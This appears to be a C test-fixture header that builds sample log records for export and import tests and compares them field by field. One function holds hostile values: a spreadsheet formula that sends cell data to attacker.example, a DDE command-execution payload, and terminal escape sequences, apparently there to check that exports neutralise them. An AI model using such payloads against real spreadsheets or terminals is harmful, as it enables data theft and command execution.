// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

/* The fixed records of the export and import tests: every field, every kind
 * of extra value, text that needs escaping or quoting, and the absent
 * fields; and a comparison of two records field by field. */

#include <string.h>

#include "ld-level.h"
#include "ld-record.h"

#define EXPORT_TIME_0 G_GINT64_CONSTANT (1714566600000250)   /* 2024-05-01T12:30:00.000250Z */

static const char export_traceback[] =
  "Traceback (most recent call last):\n"
  "  File \"/srv/app/web/views.py\", line 57, in checkout\n"
  "    total = compute(cart)\n"
  "ZeroDivisionError: division by zero";

static const char export_stack[] =
  "Stack (most recent call last):\n"
  "  File \"/srv/app/main.py\", line 10, in <module>\n"
  "    run()";

static void
export_records_add_full (LdBatch *batch)
{
  LdRecordFields f = { 0 };

  f.time_us = EXPORT_TIME_0;
  f.level = LD_LEVEL_INFO;
  f.level_name = "INFO";
  f.logger = "app.web";
  f.message = "GET /index 200";
  f.thread = "MainThread";
  f.thread_id = 140245872146240;
  f.process = 4242;
  f.process_name = "MainProcess";
  f.task = "Task-1";
  f.file = "/srv/app/web/views.py";
  f.line = 42;
  f.function = "index";
  f.connection = "tcp-1";
  f.peer = "127.0.0.1:50000";
  f.protocol = "tcp-pickle";
  ld_batch_add (batch, &f);
  ld_batch_add_extra (batch, "user", -1, LD_VALUE_STRING, "alice", -1);
  ld_batch_add_extra (batch, "status", -1, LD_VALUE_NUMBER, "200", -1);
  ld_batch_add_extra (batch, "latency", -1, LD_VALUE_NUMBER, "0.25", -1);
  ld_batch_add_extra (batch, "cached", -1, LD_VALUE_BOOL, "true", -1);
  ld_batch_add_extra (batch, "parent", -1, LD_VALUE_NULL, NULL, 0);
  ld_batch_add_extra (batch, "tags", -1, LD_VALUE_JSON, "[\"a\",\"b, c\"]", -1);
  ld_batch_add_extra (batch, "ctx", -1, LD_VALUE_JSON, "{\"k\":1,\"n\":{\"x\":[1,2]}}", -1);
}

static void
export_records_add_error (LdBatch *batch)
{
  LdRecordFields f = { 0 };

  f.time_us = EXPORT_TIME_0 + 1999750;
  f.level = LD_LEVEL_ERROR;
  f.level_name = "ERROR";
  f.logger = "app.shop";
  f.message = "checkout failed for cart 17";
  f.exception = export_traceback;
  f.stack = export_stack;
  f.thread = "worker-2";
  f.thread_id = 140245863753536;
  f.process = 4242;
  f.process_name = "MainProcess";
  f.file = "/srv/app/web/views.py";
  f.line = 57;
  f.function = "checkout";
  f.connection = "tcp-2";
  f.peer = "127.0.0.1:50002";
  f.protocol = "tcp-pickle";
  ld_batch_add (batch, &f);
  ld_batch_add_extra (batch, "user", -1, LD_VALUE_STRING, "bob", -1);
  ld_batch_add_extra (batch, "status", -1, LD_VALUE_NUMBER, "500", -1);
}

static void
export_records_add_text (LdBatch  *batch,
                         gboolean  read_back)
{
  LdRecordFields f = { 0 };

  /* Characters, not bytes, count for widths. */
  f.time_us = EXPORT_TIME_0 + 2500000;
  f.level = LD_LEVEL_WARNING;
  f.level_name = "WARNING";
  f.logger = "café.日本";
  f.message = "naïve café ✓ 😀 – 日本語";
  f.thread = "Thread-7 (worker)";
  f.thread_id = 7;
  f.process = 99;
  f.connection = "ws-3";
  f.protocol = "ws-json";
  ld_batch_add (batch, &f);
  ld_batch_add_extra (batch, "user", -1, LD_VALUE_STRING, "ç\"quoted\", and\nnew line", -1);
  ld_batch_add_extra (batch, "status", -1, LD_VALUE_NUMBER, "-0.0", -1);

  /* Quotes, commas, line breaks, tabs, backslashes and control characters. */
  memset (&f, 0, sizeof f);
  f.time_us = EXPORT_TIME_0 + 2500001;
  f.level = LD_LEVEL_DEBUG;
  f.level_name = "DEBUG";
  f.logger = "app.parse";
  f.message = "line one\nline \"two\", with comma\r\n\ttab \\ backslash \001 ctl 100% %s {x}";
  f.file = "relative/.hidden";
  f.function = "<lambda>";
  f.line = 3;
  ld_batch_add (batch, &f);
  ld_batch_add_extra (batch, "big", -1, LD_VALUE_NUMBER, "123456789012345678901234567890", -1);
  /* Too big for a double: exported as a string, and read back as one. */
  ld_batch_add_extra (batch, "huge", -1, read_back ? LD_VALUE_STRING : LD_VALUE_NUMBER, "1e400",
                      -1);
  ld_batch_add_extra (batch, "tiny", -1, LD_VALUE_NUMBER, "1.5e-07", -1);
  ld_batch_add_extra (batch, "off", -1, LD_VALUE_BOOL, "false", -1);
}

static void
export_records_add_levels (LdBatch *batch)
{
  static const struct { int level; const char *name; } levels[] = {
    { LD_LEVEL_NOTICE, NULL },     /* a canonical name the sender did not give */
    { 35, NULL },                  /* no name at all: "Level 35" */
    { LD_LEVEL_TRACE, "TRACE" },
    { 25, "SUCCESS" },             /* a custom name for a number */
    { LD_LEVEL_CRITICAL, "CRITICAL" },
    { -4, "DEBUG4" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (levels); i++)
    {
      LdRecordFields f = { 0 };

      f.time_us = EXPORT_TIME_0 + 3000000 + i * 1001;
      f.level = levels[i].level;
      f.level_name = levels[i].name;
      f.logger = "levels";
      f.message = "level test";
      f.line = 100 + i;
      f.file = i % 2 ? "/x/y/mod.name.py" : "C:\\win\\app.py";
      ld_batch_add (batch, &f);
    }
}

static void
export_records_add_edges (LdBatch *batch)
{
  LdRecordFields f = { 0 };

  /* Only what every record has. */
  f.time_us = EXPORT_TIME_0 + 4000000;
  f.level = LD_LEVEL_INFO;
  f.message = "bare";
  ld_batch_add (batch, &f);

  /* A message that ends its own line before the traceback; an empty one. */
  memset (&f, 0, sizeof f);
  f.time_us = EXPORT_TIME_0 + 4000999;
  f.level = LD_LEVEL_ERROR;
  f.level_name = "ERROR";
  f.logger = "app";
  f.message = "ends with a newline\n";
  f.exception = export_traceback;
  ld_batch_add (batch, &f);

  memset (&f, 0, sizeof f);
  f.time_us = EXPORT_TIME_0 + 4001000;
  f.level = LD_LEVEL_ERROR;
  f.level_name = "ERROR";
  f.logger = "app";
  f.message = "";
  f.stack = export_stack;
  ld_batch_add (batch, &f);

  /* Before 1970, half a second: the time rounds down. */
  memset (&f, 0, sizeof f);
  f.time_us = -500000;
  f.level = LD_LEVEL_INFO;
  f.level_name = "INFO";
  f.logger = "old";
  f.message = "before the epoch";
  ld_batch_add (batch, &f);

  /* The sender's own filename and module, kept as extra fields. */
  memset (&f, 0, sizeof f);
  f.time_us = EXPORT_TIME_0 + 5000000;
  f.level = LD_LEVEL_INFO;
  f.level_name = "INFO";
  f.logger = "app";
  f.message = "own names";
  f.file = "/srv/app/generated.py";
  ld_batch_add (batch, &f);
  ld_batch_add_extra (batch, "filename", -1, LD_VALUE_STRING, "template.html", -1);
  ld_batch_add_extra (batch, "module", -1, LD_VALUE_STRING, "template", -1);
}

/* What a spreadsheet would run as a formula, and what a terminal would act on. */
static void
export_records_add_hostile (LdBatch *batch)
{
  LdRecordFields f = { 0 };

  f.time_us = EXPORT_TIME_0 + 6000000;
  f.level = LD_LEVEL_WARNING;
  f.level_name = "WARNING";
  f.logger = "app.csv";
  f.message = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Error: click for details\")";
  ld_batch_add (batch, &f);
  ld_batch_add_extra (batch, "cmd", -1, LD_VALUE_STRING, "=cmd|' /C calc'!A0", -1);
  ld_batch_add_extra (batch, "term", -1, LD_VALUE_STRING,
                      "\033]0;owned\007\033[2J \302\233" "31m red \177", -1);
  ld_batch_add_extra (batch, "minus", -1, LD_VALUE_NUMBER, "-4", -1);
  ld_batch_add_extra (batch, "plus", -1, LD_VALUE_STRING, "+1", -1);
  ld_batch_add_extra (batch, "at", -1, LD_VALUE_STRING, "@SUM(A1)", -1);

  memset (&f, 0, sizeof f);
  f.time_us = EXPORT_TIME_0 + 6000001;
  f.level = LD_LEVEL_ERROR;
  f.level_name = "ERROR";
  f.logger = "app.term";
  f.message = "\033[31mred\033[0m, a CR\r over it, a tab\tand a CRLF\r\nline two";
  f.exception = export_traceback;
  f.thread = "-worker";
  ld_batch_add (batch, &f);
}

static inline LdBatch *
export_records_build (gboolean read_back)
{
  LdBatch *batch = ld_batch_new ();

  export_records_add_full (batch);
  export_records_add_error (batch);
  export_records_add_text (batch, read_back);
  export_records_add_levels (batch);
  export_records_add_edges (batch);
  export_records_add_hostile (batch);

  return batch;
}

static inline LdBatch *
export_records_new (void)
{
  return export_records_build (FALSE);
}

/* The records as the JSON Lines export of export_records_new() reads back. */
G_GNUC_UNUSED static inline LdBatch *
export_records_new_read_back (void)
{
  return export_records_build (TRUE);
}

/* The level's name as every exporter writes it. */
static inline const char *
export_level_name (const LdRecord *record,
                   char            buf[32])
{
  const char *name = ld_intern_lookup (record->level_name);

  if (name == NULL)
    name = ld_level_canonical_name (record->level);
  if (name == NULL)
    {
      g_snprintf (buf, 32, "Level %d", record->level);
      name = buf;
    }

  return name;
}

static inline void
assert_text_equal (const char *a,
                   gsize       a_len,
                   const char *b,
                   gsize       b_len)
{
  g_autofree char *a_copy = g_strndup (a, a_len);
  g_autofree char *b_copy = g_strndup (b, b_len);

  g_assert_cmpstr (a_copy, ==, b_copy);
  g_assert_cmpuint (a_len, ==, b_len);
}

/* Every field and every extra field, in order, with its type. A record's
 * level name may be absent in one and the name it stands for in the other:
 * JSON Lines always writes the name. */
static inline void
assert_records_equal (const LdRecord *a,
                      const LdRecord *b)
{
  const char *ta, *tb;
  gsize la, lb;
  char buf_a[32], buf_b[32];
  LdExtraIter ia, ib;
  guint32 ka, kb;
  LdValueType ya, yb;
  const char *va, *vb;
  gsize lva, lvb;

  g_assert_cmpint (a->time_us, ==, b->time_us);
  g_assert_cmpint (a->level, ==, b->level);
  g_assert_cmpstr (export_level_name (a, buf_a), ==, export_level_name (b, buf_b));
  g_assert_cmpuint (a->logger, ==, b->logger);
  ta = ld_record_get_message (a, &la);
  tb = ld_record_get_message (b, &lb);
  assert_text_equal (ta, la, tb, lb);
  g_assert_cmpuint (a->thread, ==, b->thread);
  g_assert_cmpint (a->thread_id, ==, b->thread_id);
  g_assert_cmpint (a->process, ==, b->process);
  g_assert_cmpuint (a->process_name, ==, b->process_name);
  g_assert_cmpuint (a->task, ==, b->task);
  g_assert_cmpuint (a->file, ==, b->file);
  g_assert_cmpuint (a->line, ==, b->line);
  g_assert_cmpuint (a->function, ==, b->function);
  ta = ld_record_get_exception (a, &la);
  tb = ld_record_get_exception (b, &lb);
  assert_text_equal (ta, la, tb, lb);
  ta = ld_record_get_stack (a, &la);
  tb = ld_record_get_stack (b, &lb);
  assert_text_equal (ta, la, tb, lb);
  g_assert_cmpstr (ld_intern_lookup (a->connection), ==, ld_intern_lookup (b->connection));
  g_assert_cmpstr (ld_intern_lookup (a->peer), ==, ld_intern_lookup (b->peer));
  g_assert_cmpstr (ld_intern_lookup (a->protocol), ==, ld_intern_lookup (b->protocol));

  ld_extra_iter_init (&ia, a);
  ld_extra_iter_init (&ib, b);
  while (ld_extra_iter_next (&ia, &ka, &ya, &va, &lva))
    {
      g_assert_true (ld_extra_iter_next (&ib, &kb, &yb, &vb, &lvb));
      g_assert_cmpstr (ld_intern_lookup (ka), ==, ld_intern_lookup (kb));
      g_assert_cmpint (ya, ==, yb);
      assert_text_equal (va, lva, vb, lvb);
    }
  g_assert_false (ld_extra_iter_next (&ib, &kb, &yb, &vb, &lvb));
}

/* A batch's record with its .text set, as the store would hand it out. */
static inline LdRecord
export_batch_record (const LdBatch *batch,
                     guint          index)
{
  const char *text;
  LdRecord record = *ld_batch_get_record (batch, index, &text);

  record.text = text;
  return record;
}
